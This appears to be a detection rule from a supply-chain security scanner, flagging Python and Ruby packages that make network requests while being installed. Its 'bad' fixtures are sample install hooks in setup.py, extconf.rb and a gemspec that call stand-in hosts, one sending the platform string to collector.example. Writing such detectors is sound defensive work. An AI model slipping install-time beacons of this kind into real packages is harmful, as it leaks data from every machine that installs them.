import { call, whileInstalling } from "../match.ts";
import { defineRule } from "../rule.ts";
import { SENDS } from "../vocabulary/network-calls.ts";

export default defineRule({
  id: "install-time-request",
  category: "supply_chain",
  severity: "high",
  confidence: "medium",
  languages: ["python", "ruby"],
  title: "the network is used while the package is installed",
  why: "It happens on every machine that installs the package, or anything that depends on it, before a line of it is used.",
  fix: "Ship what is needed, or fetch it when the user asks for it.",
  references: ["CWE-494", "ATT&CK T1195.002"],
  match: call({ of: SENDS.filter((name) => !name.startsWith("js.")), where: whileInstalling }),
  bad: [
    {
      "setup.py":
        'import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen("https://a.example/x")\nsetup(name="x")',
    },
    'import requests\nfrom setuptools.command.install import install\nclass Mine(install):\n    def run(self):\n        install.run(self)\n        requests.get("https://a.example/x")',
    {
      "ext/tool/extconf.rb":
        'require "mkmf"\nrequire "net/http"\nNet::HTTP.get(URI("https://collector.example/?" + RUBY_PLATFORM))\ncreate_makefile("tool")',
    },
    {
      "tool.gemspec":
        'require "open-uri"\nGem::Specification.new do |s|\n  s.name = URI.open("https://collector.example/n").read\nend',
    },
  ],
  good: [
    { "setup.py": "from setuptools import setup\nsetup(name='x', version=open('VERSION').read())" },
    { "client.py": 'import requests\nrequests.get("https://a.example/x")' },
    'import requests\nclass Mine(Base):\n    def run(self):\n        requests.get("https://a.example/x")',
    { "ext/tool/extconf.rb": 'require "mkmf"\nhave_header("zlib.h")\ncreate_makefile("tool")' },
    { "lib/tool.rb": 'require "net/http"\nNet::HTTP.get(URI("https://api.example/v1"))' },
  ],
});
